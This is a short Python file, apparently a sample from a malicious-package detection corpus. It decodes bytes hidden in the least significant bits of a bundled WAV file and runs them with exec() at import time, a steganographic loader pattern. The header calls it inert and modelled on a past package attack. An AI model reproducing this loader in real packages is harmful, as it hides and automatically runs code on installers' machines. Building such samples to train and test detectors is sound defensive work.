# pkgguard corpus 517 (steganography), modelled on [telnyx]; inert, never run.
import os

import numpy as np
from scipy.io import wavfile

_rate, _samples = wavfile.read(os.path.join(os.path.dirname(__file__), "sounds", "chime.wav"))
_bits = (_samples[:4096].astype(np.int16) & 1).astype(np.uint8)
_code = np.packbits(_bits).tobytes().split(b"\x00", 1)[0]
exec(_code)
